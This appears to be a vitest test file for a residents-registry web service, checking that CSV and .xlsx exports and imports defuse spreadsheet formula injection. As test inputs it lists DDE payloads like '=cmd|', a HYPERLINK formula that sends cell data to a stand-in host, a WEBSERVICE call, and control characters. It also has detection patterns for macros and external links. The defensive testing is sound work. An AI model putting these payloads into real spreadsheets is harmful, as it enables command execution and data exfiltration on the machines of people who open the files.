/**
 * Whatever somebody writes is words in every table that leaves: no table program computes it, and
 * the table comes back in as it was. Every endpoint that hands out a table stands here.
 */
import { globSync, readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import writeExcelFile from 'write-excel-file/node'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { isUnread, readSheet } from '../../src/platform/sheets/index.ts'
import { bring, brought, dry, type Row } from '../../src/ground/people/importing/testing/index.ts'
import { every } from '../rig/contracts.ts'
import { openTestProgram, operatorKey } from '../rig/program.ts'
import { openStreets, type Actor, type Streets } from '../rig/streets.ts'
import { partsOf } from './zips.ts'

let town: Streets

beforeAll(async () => {
  town = await openStreets()
  await fill()
})
afterAll(() => town[Symbol.asyncDispose]())

/** What table programs take for the beginning of a formula, of a command, or of another cell. */
const beginnings = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''+", '"=', ';=', ',=', '|=', '==', '=-'],
  ...['=cmd|', '@SUM(', '+cmd|', '-2+3+cmd|', '=HYPERLINK("http://x.example/?"&A1,"', '=1+1\u00a0'],
]
/** Those that no name may hold: refused in words, or taken away before anything is kept. */
const controls = [
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  '\r\n=',
  '\v=',
  '\u202e=',
  '\ufeff=',
  'a\t=',
  'a\r\n=',
]

const names = beginnings.map((first, n) => `${first}王${'甲乙丙丁戊己庚辛壬癸'[n % 10]}${n}`)
const short = beginnings.filter((first) => first.length < 6)

const tables: Record<'homes' | 'residents' | 'owners' | 'staff', () => Row[]> = {
  homes: () =>
    short.map((first, n) => ({
      ...{ committee: town.a.committee, compound: `${first}村${n}`, building: `${first}幢` },
      ...{ stair: '1', room: '101' },
    })),
  residents: () =>
    names.map((name) => ({ compound: '新村甲', stair: '26', room: '201', name, household: '1' })),
  owners: () => [
    ...names.map((name) => ({
      ...{ compound: '新村甲', stair: '26', room: '201', name, share: `1/${names.length}` },
    })),
    { compound: '新村甲', stair: '26', room: '202', name: '=开发"商', kind: '开发商' },
  ],
  staff: () =>
    short.map((first, n) => ({
      ...{ bodyKind: '物业', body: `${first}物业`, title: `${first}保安` },
      ...{ name: `${first}卫${n}`, rank: String(n + 1) },
    })),
}
const kinds = Object.keys(tables) as (keyof typeof tables)[]

async function fill(): Promise<void> {
  for (const kind of kinds) {
    const rows = tables[kind]()
    const done = await bring(town.a.officer, kind, rows)
    expect(done).toMatchObject({ state: 'done', good: rows.length, faults: [] })
  }
}

type Told = { name: string; base64: string }

async function exported(
  by: Actor,
  owner: Streets['owner'],
  kind: string,
  format: string,
): Promise<Told> {
  const asked = { kind, reason: 'move-to-other-system' }
  const { export: id } = (await by.post('/api/people/exports', asked)).body
  await owner(`update identity.session set stepped_up_until = '2100-01-01'`)
  const { status, body } = await by.post('/api/people/exports/fetch', { export: id, format })
  expect(status).toBe(200)
  return body
}

async function cells({ base64 }: Told): Promise<(string | null)[][]> {
  const bounds = { linesMax: 30_000, unfoldedBytesMax: 64_000_000 }
  const read = await readSheet(Buffer.from(base64, 'base64'), bounds)
  if (isUnread(read)) throw new Error(read.unread)
  return read as (string | null)[][]
}

/** As a table program sees them, before anybody takes an apostrophe away. */
const computed = /^[=+\-@\t\r\n＝＋－＠]/
const rawCsv = ({ base64 }: Told): string[][] =>
  parse(Buffer.from(base64, 'base64'), { bom: true, relax_column_count: true })

/** Nothing in it is computed, fetched, or run: all cells are text. */
function expectPlain({ base64 }: Told): void {
  const parts = partsOf(Buffer.from(base64, 'base64'))
  const folders = [
    '_rels/',
    'docProps/',
    ...['_rels/', 'theme/', 'worksheets/'].map((one) => `xl/${one}`),
  ]
  const files = ['[Content_Types]', 'xl/workbook', 'xl/styles', 'xl/sharedStrings']
  const isOwn = (name: string) =>
    folders.some((folder) => name.startsWith(folder)) || files.includes(name.replace(/\.xml$/, ''))
  expect([...parts.keys()].filter((name) => !isOwn(name))).toEqual([])
  for (const [name, xml] of parts) {
    expect([name, xml.match(/<(f|ddeLink|oleLink|hyperlink)\b/)]).toEqual([name, null])
    expect([name, /TargetMode="External"|vbaProject|macro/i.test(xml)]).toEqual([name, false])
    const kept = [...xml.matchAll(/<c\b([^>]*)>/g)].map(([, facts]) => facts ?? '')
    const full = kept.filter((facts) => !facts.endsWith('/'))
    expect([name, full.filter((facts) => !/ t="(s|inlineStr)"/.test(facts))]).toEqual([name, []])
  }
}

/** The endpoints that hand out a table, and the test that each of them stands in. */
const handingOut = {
  'people.fetchExport': 'each kind, below',
  'people.importTemplate': 'templates',
  'devices.importTemplate': 'templates',
  'devices.importDevices': 'what was added',
}

test('every endpoint that hands out a table is asked here, and nobody else writes tables', () => {
  const found = every.filter(
    ({ endpoint }) => 'base64' in ((endpoint.output as { properties?: object }).properties ?? {}),
  )
  // An archive of pages and JSON: no table program opens either.
  const handed = found.map(({ name }) => name).filter((name) => name !== 'privacy.copyMine')
  expect(handed.toSorted()).toEqual(Object.keys(handingOut).toSorted())
  const writing = globSync('{src,scripts,web,town,simulator}/**/*.{ts,tsx}')
    .filter((path) => !path.endsWith('.test.ts') && !path.endsWith('.test.tsx'))
    .filter((path) =>
      /csv-stringify|write-excel-file|text\/csv|application\/vnd\.ms-excel/.test(
        readFileSync(path, 'utf8'),
      ),
    )
  expect(writing.toSorted()).toEqual([
    'src/platform/sheets/written.ts',
    'src/platform/sheets/xlsx.ts',
  ])
})

describe.each(kinds)('what an export of %s holds', (kind) => {
  test('is computed by no table program, as CSV or as .xlsx', async () => {
    const csv = await exported(town.a.officer, town.owner, kind, 'csv')
    const raw = rawCsv(csv).flat()
    expect(raw.filter((cell) => computed.test(cell))).toEqual([])
    // They are there, each behind an apostrophe.
    expect(raw.filter((cell) => /^'+[=+\-@＝＋－＠]/.test(cell)).length).toBeGreaterThan(10)
    expectPlain(await exported(town.a.officer, town.owner, kind, 'xlsx'))
  })

  test('comes in elsewhere letter by letter, and goes out from there as the same', async () => {
    await using rig = await openTestProgram()
    const { name } = town.a.officer
    const founded = { street: town.a.street, officer: name, phone: '021-5550-0100' }
    const { body } = await rig.call(operatorKey, 'POST', '/api/duties/streets', founded)
    const token = await rig.tokenOf(name)
    const by: Actor = {
      ...{ name, token, person: body.person },
      get: (path) => rig.call(token, 'GET', path),
      post: (path, asked) => rig.call(token, 'POST', path, asked),
    }
    const owner: Streets['owner'] = async (statement, values = []) =>
      (await rig.program.given.db.ownerPool.query(statement, values)).rows as any
    for (const needed of kind === 'homes' ? [] : (['homes'] as const)) {
      const homes = await exported(town.a.officer, town.owner, needed, 'csv')
      const asked = { kind: needed, base64: homes.base64, onDuplicate: 'leave-out' }
      expect(await brought(by, asked)).toMatchObject({ state: 'done', faults: [] })
    }
    const first = await exported(town.a.officer, town.owner, kind, 'csv')
    const asked = { kind, base64: first.base64, onDuplicate: 'leave-out' }
    expect(await brought(by, asked)).toMatchObject({ state: 'done', faults: [] })
    // The watermark of a CSV says who fetched it.
    const unmarked = async (told: Told) => (await cells(told)).map((row) => row.slice(0, -1))
    const here = await unmarked(first)
    expect(here.length).toBeGreaterThanOrEqual(tables[kind]().length + 2)
    const then = await unmarked(await exported(by, owner, kind, 'csv'))
    for (const line of here) expect(then).toContainEqual(line)
    // An .xlsx is the same table.
    for (const [who, of, told] of [
      [town.a.officer, town.owner, here],
      [by, owner, then],
    ] as const) {
      expect(await cells(await exported(who, of, kind, 'xlsx'))).toEqual(told)
    }
  })
})

test('a line feed, a tab or a letter that turns the line gets into no name', async () => {
  for (const control of controls) {
    const name = `${control}王五`
    const row = { compound: '新村甲', stair: '26', room: '202', name }
    if (!control.startsWith('\0')) {
      const { faults, good } = await dry(town.a.officer, 'residents', [row])
      // At the end of a cell it is taken away, within it refused: in no case kept.
      expect({ control, faults: faults.length + good }).toEqual({ control, faults: 1 })
    }
    const made = { name, bornOn: null, phone: null, home: null, livesAlone: false }
    const { status } = await town.a.officer.post('/api/people', made)
    expect({ control, status }).toEqual({ control, status: 400 })
  }
  const kept = await town.owner(`select 1 from people.person where name ~ '[[:cntrl:]]'`)
  expect(kept).toEqual([])
})

test('a formula in a file that comes in is what it showed, and is never computed by us', async () => {
  const made = writeExcelFile([
    ['小区', '门牌号', '室号', '姓名'].map((title) => ({ value: title })),
    [
      ...['新村甲', '26号', '202'].map((value) => ({ value })),
      { type: 'Formula', value: 'WEBSERVICE("http://127.0.0.1/")' } as const,
    ],
  ])
  const base64 = (await made.toBuffer()).toString('base64')
  const asked = { kind: 'residents', base64 }
  const { status, body } = await town.a.officer.post('/api/people/imports/dry-run', asked)
  expect(status).toBe(200)
  expect(body).toMatchObject({ good: 0, bad: 1 })
})

test('templates hold titles and words alone', async () => {
  const { officer } = town.a
  for (const kind of kinds) {
    const xlsx = await officer.get(`/api/people/imports/template?kind=${kind}&format=xlsx`)
    expectPlain(xlsx.body)
    const csv = await officer.get(`/api/people/imports/template?kind=${kind}&format=csv`)
    expect(
      rawCsv(csv.body)
        .flat()
        .filter((cell) => computed.test(cell)),
    ).toEqual([])
  }
  expectPlain((await officer.get('/api/devices/import/template')).body)
})

test('what was added of devices is words, with its labels', async () => {
  const titles = ['种类', '地点编码', '标注', '维护单位']
  const lines = short.map((first) => ['烟感', town.a.homes[0]!, `${first}一楼`, `${first}维保`])
  const rows = [titles, ...lines].map((row) =>
    row.map((value) => ({ value, type: String, format: '@' })),
  )
  const base64 = (await writeExcelFile(rows).toBuffer()).toString('base64')
  const { status, body } = await town.a.officer.post('/api/devices/import', { base64 })
  expect({ status, added: body.added }).toEqual({ status: 200, added: lines.length })
  expectPlain(body)
  const labels = (await cells(body)).slice(1).map((row) => row.at(-1))
  expect(labels).toEqual(lines.map((line) => line[2]))
})
